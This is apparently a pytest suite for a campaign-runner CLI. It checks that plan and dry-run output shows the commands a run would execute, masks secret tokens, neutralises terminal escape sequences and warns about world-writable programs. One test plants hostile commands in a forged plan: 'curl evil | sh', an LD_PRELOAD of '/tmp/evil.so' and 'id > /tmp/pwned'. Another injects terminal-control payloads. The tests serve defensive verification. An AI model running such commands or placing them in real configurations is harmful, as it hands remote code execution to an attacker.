"""What would run is shown before it does: from the plan that a run works from, and not from what stands beside it."""

from __future__ import annotations

import json
import os
import shlex
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from rose_cli.campaign_file import check_campaign
from rose_cli.commands.plan import PlanOptions, show_plan
from rose_cli.journal.state import LearnerState
from rose_cli.run_info import initial_state
from rose_cli.runs.directory import RunDirectory
from rose_cli.view.plan import planned_tasks, warn_of_other_writers
from rose_cli.view.resume import next_command_lines
from tests import forge
from tests.conftest import Rose

if TYPE_CHECKING:
    from rose_cli.plan.model import Plan

CAMPAIGN = """
    max_iter: 3
    files: [sim.sh, {path: data.csv, to: in/data.csv, copy: true}]
    env: {MESH: "fine one", HF_TOKEN: 0123456789}
    tasks:
      sim: {executable: ./sim.sh, options: {--n: 5, --name: "it's {learner}"}}
      train: {executable: "sh -c 'exit 3'", pre_exec: ["export STAGE=2"]}
    learners: [{name: a}, {name: b, sim: {adaptive: {--n: 1 + i}}}]
    """


@pytest.fixture(scope="module")
def once(tmp_path_factory: pytest.TempPathFactory) -> Rose:
    """A run `rose-runs/r` whose learners failed in 'train'; only looked at."""
    rose = Rose(tmp_path_factory.mktemp("once"))
    rose.script("#!/bin/sh\n", "sim.sh")
    rose.write("", "data.csv")
    rose.write(CAMPAIGN)
    (rose.folder / "rose-runs").mkdir()
    assert rose("run", "campaign.yaml", "--run-dir", "rose-runs/r", "--output", "quiet").code == 1
    return rose


@pytest.fixture
def failed(once: Rose, tmp_path: Path) -> Rose:
    """A copy, to be changed."""
    return Rose(Path(shutil.copytree(once.folder, tmp_path / "here", symlinks=True)))


def test_the_plan_of_a_run_is_shown_as_that_of_its_file(
    failed: Rose, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(failed.folder)

    def shown(name: str, **options: Any) -> str:
        assert show_plan(name, PlanOptions(**options)) == 0
        return capsys.readouterr().out

    first = shown("campaign.yaml")
    for name in ("rose-runs/r", "r", ".", "rose-runs/r/plan.json"):
        assert shown(name) == first
    for options in ({"plan_format": "json"}, {"learners": ["b"], "iterations": ["1"]}):
        assert shown("r", **options) == shown("campaign.yaml", **options)
    failed.write(CAMPAIGN.replace("--n: 5", "--n: 6").replace("MESH: fine", "MESH: rough"))
    assert shown("r") == first
    assert "--n 6" in shown("campaign.yaml", iterations=["0"])


def test_the_plan_of_a_run_has_the_max_iter_that_a_resume_has_set(failed: Rose) -> None:
    assert failed("resume", "r", "--max-iter", "7", "--learner", "b", "--output", "quiet").code == 1
    bounds = {each["name"]: each["max_iter"] for each in failed.json("plan", "r", "--format", "json")["learners"]}
    assert bounds == {"a": 3, "b": 7}


def test_a_run_has_no_settings_left(once: Rose) -> None:
    for words in (("--set", "max_iter=1"), ("--smoke",)):
        called = once("plan", "r", *words)
        assert (called.code, "is fixed" in called.err) == (2, True)
    assert once("plan", "nowhere.yaml").code == 2
    assert "there is no run" in once("plan", "nowhere").err


def test_files_variables_lines_and_programs_are_shown(once: Rose) -> None:
    out = once("plan", "r").out
    here = once.folder
    assert f"\n  sim.sh: a link to {here}/sim.sh\n  in/data.csv: a copy of {here}/data.csv\n" in out
    assert "\nenvironment variables of sim, train:\n  MESH='fine one'\n  HF_TOKEN=********\n" in out
    assert "\nbefore each command of train:\n  export STAGE=2\n" in out
    assert "\n  sh  /" in out
    assert "unless pre_exec provides another" in out
    assert "0123456789" not in out
    learner = once.json("plan", "r", "--format", "json")["learners"][0]
    assert learner["files"][1] == {"source": f"{here}/data.csv", "target": "in/data.csv", "copy": True}
    sim, train = learner["iterations"][0]["tasks"]
    assert (sim["program"], train["program"]) == (f"{here}/sim.sh", None)


@pytest.mark.parametrize(
    ("path", "said"),
    [
        (".:{programs}:/bin", ", unless the workspace has one"),
        (":{programs}:/bin", ", unless the workspace has one"),
        ("{programs}:/bin:.", ""),
    ],
)
def test_a_program_that_may_come_from_the_workspace_is_said_to(rose: Rose, path: str, said: str) -> None:
    """A folder of the PATH without a full path is looked up where the task runs, and not where rose does."""
    programs = rose.folder / "programs"
    programs.mkdir()
    rose.script("#!/bin/sh\n", "programs/tool")
    rose.script("#!/bin/sh\n", "tool")
    rose.write("{max_iter: 1, tasks: {sim: {executable: tool}}, learners: 1}")
    path = path.format(programs=programs)
    assert f"\n  tool  {programs}/tool{said}  (sim)" in rose("plan", "campaign.yaml", PATH=path).out
    (learner,) = json.loads(rose("plan", "campaign.yaml", "--format", "json", PATH=path).out)["learners"]
    assert learner["iterations"][0]["tasks"][0]["program"] == (None if said else f"{programs}/tool")


def test_what_a_plan_runs_is_shown_and_not_what_the_campaign_file_beside_it_says(failed: Rose) -> None:
    run = failed.folder / "rose-runs/r"

    def change(plan: dict[str, object]) -> None:
        for command in forge.every_command(plan):
            command.update(words=["/bin/sh", "-c", "id > /tmp/pwned"], beside=[], pre_exec=["curl evil | sh"])
            command["environment"] = {"LD_PRELOAD": "/tmp/evil.so"}

    forge.change_plan(run, change)
    for words in (("plan", "r"), ("resume", "r", "--dry-run")):
        out = failed(*words).out
        assert "/bin/sh -c 'id > /tmp/pwned'" in out
        assert "\n  curl evil | sh\n" in out
        assert "\n  LD_PRELOAD=/tmp/evil.so\n" in out
    assert not (failed.folder / "pwned").exists()


def test_nothing_that_is_shown_acts_on_a_terminal(failed: Rose) -> None:
    run = failed.folder / "rose-runs/r"
    odd = "x\x1b]0;pwn\x07\x9b2J\u202e\r\n"

    def change(plan: dict[str, object]) -> None:
        for command in forge.every_command(plan):
            command.update(args=[odd], pre_exec=[odd], environment={"A": odd})

    forge.change_plan(run, change)
    failed_event = next(entry for entry in forge.records(run) if entry["event"] == "learner_stopped")
    forge.append(run, {**failed_event, "reason": odd, "learner": "b"})
    for words in (("plan", "r"), ("resume", "r", "--dry-run", "--trust")):
        called = failed(*words)
        assert called.code == 0, called.err
        assert not set("\x1b\x07\x9b\u202e\r") & set(called.out + called.err)
        assert "x␛]0;pwn␇" in called.out


def test_the_commands_that_come_next_can_be_copied(once: Rose) -> None:
    out = once("resume", "r", "--dry-run", "--from-iteration", "0").out
    lines = out.splitlines()
    at = lines.index("  a: sim")
    assert shlex.split(lines[at + 1]) == [f"{once.folder}/sim.sh", "--n", "5", "--name", "it's a"]
    assert shlex.split(lines[lines.index("  b: sim") + 1])[1:3] == ["--n", "1"]
    assert "  a: train\n    sh -c 'exit 3'\n" in once("resume", "r", "--dry-run").out
    assert once("plan", "r", "--iteration", "0").out.count("it'\"'\"'s") == 2


def test_workspace_and_attempt_of_what_comes_next_are_those_of_the_run(rose: Rose) -> None:
    line = "echo $ROSE_ATTEMPT {workspace} {replica}; false"
    rose.write(
        json.dumps({"max_iter": 1, "learners": [{"name": "a"}], "tasks": {"t": {"executable": line, "shell": True}}})
    )
    assert rose("run", "campaign.yaml", "--run-dir", "r", "--output", "quiet").code == 1
    workspace = rose.folder / "r/learners/a/workspace"
    assert f"    /bin/sh -c 'echo $ROSE_ATTEMPT {workspace} 0; false'\n" in rose("resume", "r", "--dry-run").out


def compiled(folder: Path, tasks: str, learners: int) -> Plan:
    file = folder / "campaign.yaml"
    file.write_text(f"{{max_iter: 2, tasks: {tasks}, learners: {learners}}}")
    return check_campaign(file, {"PATH": os.environ["PATH"]}).good_plan


def test_thousands_of_learners_share_lines(tmp_path: Path) -> None:
    plan = compiled(tmp_path, '{sim: {executable: "true", options: {--seed: "{seed}"}}, t: {executable: ls}}', 3000)
    names = [learner.name for learner in plan.learners]
    state = initial_state(plan)
    state.learners = {name: LearnerState(name) for name in names}
    lines = list(next_command_lines(RunDirectory.at(tmp_path), plan, state, names, {"PATH": "/usr/bin:/bin"}))
    assert len(lines) < 12
    assert "learner-0, learner-1, learner-2 and 2,997 more: sim (shown for 'learner-0'" in lines[1]
    assert list(next_command_lines(RunDirectory.at(tmp_path), plan, state, [], {})) == []


def test_a_program_that_others_can_change_is_named_once(rose: Rose) -> None:
    (rose.folder / "tools").mkdir()
    rose.script("#!/bin/sh\n", "tools/sim.sh")
    rose.write("{max_iter: 2, tasks: {s: {executable: tools/sim.sh}, t: {executable: tools/sim.sh}}, learners: 2}")
    assert rose("plan", "campaign.yaml").err == ""
    (rose.folder / "tools").chmod(0o777)
    called = rose("plan", "campaign.yaml")
    assert called.err.replace("\n", " ").count(f"'{rose.folder}/tools' can be changed by everybody") == 1
    assert called.code == 0
    (rose.folder / "tools").chmod(0o1777)
    assert rose("plan", "campaign.yaml").err == "", "with the sticky bit nobody can replace a file of mine"
    (rose.folder / "tools/sim.sh").chmod(0o777)
    assert "sim.sh' can be changed by everybody" in rose("plan", "campaign.yaml").err.replace("\n", " ")
    assert "can be changed" not in rose("validate", "campaign.yaml").out


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_a_program_of_somebody_else_is_named(rose: Rose, tmp_path: Path) -> None:
    rose.script("#!/bin/sh\n", "run.sh")
    rose.script("#!/bin/sh\n", "mine.sh")
    (learner,) = compiled(tmp_path, "{s: {executable: ./mine.sh}, t: {executable: ./run.sh}}", 1).learners
    plan = compiled(tmp_path, "{s: {executable: ./mine.sh}, t: {executable: ./run.sh}}", 1)
    commands = [task.command for task in planned_tasks(plan, learner, 0) if task.command is not None]
    assert list(warn_of_other_writers(commands, dict(os.environ))) == []
    os.chown(tmp_path / "run.sh", 4002, 4002)
    (line,) = warn_of_other_writers(commands, dict(os.environ))
    assert f"'{tmp_path}/run.sh' belongs to uid 4002" in line
    assert "mine.sh" not in line
